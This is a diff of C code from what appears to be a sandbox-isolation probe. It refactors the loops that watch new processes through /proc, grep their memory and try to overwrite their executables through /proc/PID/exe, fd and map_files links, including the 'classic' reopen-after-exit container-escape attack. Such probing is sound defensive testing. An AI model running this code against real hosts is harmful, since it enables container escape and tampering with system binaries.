@@ -230,32 +230,44 @@ static int memgrep(int pid, const char *text) {
     return 0;
 }
 
-static int hunt(const char *stop) {
+/*
+ * Calls visit(pid) once for each process that appears in the pid namespace (but the caller and
+ * pid 1), as soon as it appears, until STOPFILE exists (at most 120 s). Returns 0, or -1 when
+ * /proc cannot be listed.
+ */
+static int watch_newcomers(const char *stop, void (*visit)(int pid)) {
     static char seen[1 << 22];
     int self = getpid();
     time_t end = time(NULL) + 120;
     struct stat st;
-    char path[64], buf[4096];
-    snprintf(path, sizeof path, "/proc/%d/status", self);
-    int fd = open(path, O_RDONLY);
-    long n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
-    buf[n < 0 ? 0 : n] = 0;
-    char *cap = strstr(buf, "CapEff:\t");
-    printf("self caps %.16s\n", cap ? cap + 8 : "?");
     while (stat(stop, &st) != 0 && time(NULL) < end) {
         DIR *d = opendir("/proc");
         if (!d) {
-            return report(-1);
+            return -1;
         }
         struct dirent *e;
         while ((e = readdir(d))) {
             int pid = atoi(e->d_name);
             if (pid > 1 && pid < (int) sizeof seen && pid != self && !seen[pid]) {
                 seen[pid] = 1;
-                peek(pid);
+                visit(pid);
             }
         }
         closedir(d);
+    }
+    return 0;
+}
+
+static int hunt(const char *stop) {
+    char path[64], buf[4096];
+    snprintf(path, sizeof path, "/proc/%d/status", getpid());
+    int fd = open(path, O_RDONLY);
+    long n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
+    buf[n < 0 ? 0 : n] = 0;
+    char *cap = strstr(buf, "CapEff:\t");
+    printf("self caps %.16s\n", cap ? cap + 8 : "?");
+    if (watch_newcomers(stop, peek) != 0) {
+        return report(-1);
     }
     printf("hunt done\n");
     return 0;
@@ -315,38 +327,27 @@ static void try_write_links(int pid, const char *name) {
     closedir(d);
 }
 
+/* The exe of each process overwrite saw, held as O_PATH fds for the attempt after it is gone. */
+static int held[4096], held_pid[4096], nheld;
+static long looked;
+
+static void overwrite_one(int pid) {
+    char path[64];
+    looked++;
+    snprintf(path, sizeof path, "/proc/%d/exe", pid);
+    int fd = open(path, O_PATH);
+    if (fd >= 0 && nheld < 4096) {
+        held_pid[nheld] = pid;
+        held[nheld++] = fd;
+    }
+    try_write(path, pid, "exe");
+    try_write_links(pid, "fd");
+    try_write_links(pid, "map_files");
+}
+
 static int overwrite(const char *stop) {
-    static char seen[1 << 22];
-    static int held[4096], held_pid[4096];
-    int nheld = 0, self = getpid();
-    long looked = 0;
-    time_t end = time(NULL) + 120;
-    struct stat st;
-    while (stat(stop, &st) != 0 && time(NULL) < end) {
-        DIR *d = opendir("/proc");
-        if (!d) {
-            return report(-1);
-        }
-        struct dirent *e;
-        while ((e = readdir(d))) {
-            int pid = atoi(e->d_name);
-            if (pid <= 1 || pid >= (int) sizeof seen || pid == self || seen[pid]) {
-                continue;
-            }
-            seen[pid] = 1;
-            looked++;
-            char path[64];
-            snprintf(path, sizeof path, "/proc/%d/exe", pid);
-            int fd = open(path, O_PATH);
-            if (fd >= 0 && nheld < 4096) {
-                held_pid[nheld] = pid;
-                held[nheld++] = fd;
-            }
-            try_write(path, pid, "exe");
-            try_write_links(pid, "fd");
-            try_write_links(pid, "map_files");
-        }
-        closedir(d);
+    if (watch_newcomers(stop, overwrite_one) != 0) {
+        return report(-1);
     }
     /* the classic attack: the binary, busy while it ran, reopened for writing once it is gone */
     for (int i = 0; i < nheld; i++) {
